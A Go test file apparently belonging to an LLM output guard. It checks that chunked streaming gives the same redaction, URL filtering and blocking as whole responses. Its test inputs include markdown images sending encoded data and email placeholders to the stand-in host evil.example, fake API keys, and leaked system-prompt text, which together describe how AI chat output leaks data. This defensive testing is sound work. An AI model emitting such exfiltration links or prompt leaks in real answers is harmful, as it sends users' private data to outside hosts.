package guard_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
	"testing"
	"unicode/utf8"

	"rampart/internal/guard"
	"rampart/internal/policy"
	"rampart/internal/redact"

	_ "rampart/internal/scan/canary"
	_ "rampart/internal/scan/refusal"
	_ "rampart/internal/scan/urls"
)

const propSystem = "You are the Acme assistant. Never disclose the escalation code word or the refund limits to customers under any circumstances."

// propPieces are the building blocks of random answers: plain words,
// secrets, e-mails, placeholders (created and not), links, multi-byte text
// and near misses.
func propPieces(ph []string) []string {
	return append([]string{
		"the ", "quick ", "brown ", "fox ", "jumps. ", "\n", "\n\n", "Hello, ", "world! ", "naïve ", "日本語の", "テキスト ", "emoji 🙂 ",
		"sk-AbCdEf0123456789XyZ ", "key sk-live9988776655443322 end ", "sk-short ",
		"mail bob@example.com now ", "alice.smith@corp.org", " x@y ",
		"<EMAIL_9> ", "<NOT_A_PLACEHOLDER> ", "a < b ", "<", ">",
		"![img](https://evil.example/p.png?d=QWxpY2UgU21pdGggc2VjcmV0) ",
		"[docs](https://docs.acme.com/guide) ", "[bad](https://evil.example/x) ",
		"![ok](https://cdn.acme.com/logo.png) ", `<img src="https://evil.example/t.gif">`,
		"see https://evil.example/raw and https://docs.acme.com/raw ",
		"[ref]: https://evil.example/c?q=1\n", "[t][ref] ", "] ( ) [ ",
		"forbidden ", "fruit ", "I'm sorry, but I can't help with that. ",
	}, ph...)
}

func propText(r *rand.Rand, pieces []string) string {
	var b strings.Builder
	n := 5 + r.IntN(40)
	for range n {
		b.WriteString(pieces[r.IntN(len(pieces))])
	}
	return b.String()
}

// chunked frames text as an upstream chat stream cut at the given offsets
// (moved to rune boundaries: JSON strings carry whole code points).
func chunked(text string, cuts []int) string {
	var deltas []string
	prev := 0
	for _, c := range cuts {
		for c < len(text) && !utf8.RuneStart(text[c]) {
			c++
		}
		if c > prev && c < len(text) {
			deltas = append(deltas, text[prev:c])
			prev = c
		}
	}
	deltas = append(deltas, text[prev:])
	return chatSSE(deltas...)
}

func nonStreamed(t testing.TB, o *guard.Output, text string) (string, bool) {
	t.Helper()
	body, _ := json.Marshal(map[string]any{
		"id": "x", "object": "chat.completion",
		"choices": []any{map[string]any{"index": 0, "message": map[string]any{"role": "assistant", "content": text}, "finish_reason": "stop"}},
	})
	out, d, _, err := o.CheckResponse(context.Background(), body)
	if err != nil {
		t.Fatal(err)
	}
	if d.Enforced == policy.Block {
		return "", true
	}
	var resp struct {
		Choices []struct {
			Message struct{ Content string } `json:"message"`
		} `json:"choices"`
	}
	if err := json.Unmarshal(out, &resp); err != nil {
		t.Fatal(err)
	}
	return resp.Choices[0].Message.Content, false
}

func streamed(t testing.TB, o *guard.Output, upstream string) (string, bool) {
	t.Helper()
	var out bytes.Buffer
	res, err := o.RelaySSE(context.Background(), &out, strings.NewReader(upstream), guard.SSEOptions{})
	if err != nil {
		t.Fatal(err)
	}
	p := parseSSE(t, out.Bytes())
	if !p.done || p.afterDone || p.finishBeforeText {
		t.Fatalf("bad framing:\n%s", out.Bytes())
	}
	if res.Blocked != (len(p.errs) == 1) {
		t.Fatalf("blocked=%v but errors %v", res.Blocked, p.errs)
	}
	return p.content[0], res.Blocked
}

// checkChunkings asserts that every chunking of text streams to the same
// output as the non-streamed check. A blocked stream must be blocked in
// both, and what it released before the block must be a prefix of what
// an unblocked check would have released.
func checkChunkings(t *testing.T, newOutput func() *guard.Output, text string, r *rand.Rand, every bool) {
	t.Helper()
	want, wantBlocked := nonStreamed(t, newOutput(), text)
	try := func(name string, cuts []int) {
		got, blocked := streamed(t, newOutput(), chunked(text, cuts))
		if blocked != wantBlocked {
			t.Fatalf("%s: blocked=%v, non-streamed blocked=%v\ntext %q", name, blocked, wantBlocked, text)
		}
		if !blocked && got != want {
			t.Fatalf("%s: streamed output differs\ntext %q\n got %q\nwant %q", name, text, got, want)
		}
	}
	ones := make([]int, len(text))
	for i := range ones {
		ones[i] = i + 1
	}
	try("1-byte chunks", ones)
	try("one chunk", nil)
	if every {
		for i := 1; i < len(text); i++ {
			try(fmt.Sprintf("split at %d", i), []int{i})
		}
	}
	for k := range 5 {
		var cuts []int
		for c := r.IntN(12) + 1; c < len(text); c += r.IntN(12) + 1 {
			cuts = append(cuts, c)
		}
		try(fmt.Sprintf("random chunking %d", k), cuts)
	}
}

func propOutput(t testing.TB, pol *policy.Policy) func() *guard.Output {
	return func() *guard.Output {
		v := redact.NewVault()
		v.Placeholder("EMAIL", "carol@private.example")
		v.Placeholder("PERSON", "Carol Danvers")
		c, _ := guard.NewContext(pol, []string{propSystem}, nil)
		return &guard.Output{Policy: pol, Vault: v, Context: c}
	}
}

func TestPropertyStreamEqualsWhole(t *testing.T) {
	pol := testPolicy(t, "  urls: {allowed_hosts: [docs.acme.com, '*.acme.com']}\n")
	newOutput := propOutput(t, pol)
	pieces := propPieces([]string{"<EMAIL_1> ", "<PERSON_1>", "![x](https://docs.acme.com/a?u=<EMAIL_1>) ",
		"ask " + propSystem[20:90] + " ", "Never disclose the escalation code word "})
	r := rand.New(rand.NewPCG(1, 2))
	n := 40
	if testing.Short() {
		n = 8
	}
	for i := range n {
		text := propText(r, pieces)
		checkChunkings(t, newOutput, text, r, i%4 == 0)
	}
}

// TestPropertyHandPicked covers the cases random texts hit rarely.
func TestPropertyHandPicked(t *testing.T) {
	pol := testPolicy(t, "  urls: {allowed_hosts: [docs.acme.com]}\n")
	newOutput := propOutput(t, pol)
	r := rand.New(rand.NewPCG(3, 4))
	for _, text := range []string{
		"Your secret is sk-AbCdEf0123456789XyZ and your mail <EMAIL_1>, <PERSON_1>.",
		"![leak](https://evil.example/i.png?e=<EMAIL_1>) and [home](https://docs.acme.com/)",
		strings.Repeat("long text ", 30) + "![a very long alt text that goes on and on and on and on and on](https://evil.example/" + strings.Repeat("A1b2C3", 40) + ")",
		"<EMAIL_1><PERSON_1><EMAIL_1>",
		"<<EMAIL_1>> <EMAIL_1 <EMAIL_1>>",
		"日本語" + "sk-AbCdEf0123456789XyZ" + "日本語",
	} {
		checkChunkings(t, newOutput, text, r, true)
	}
}
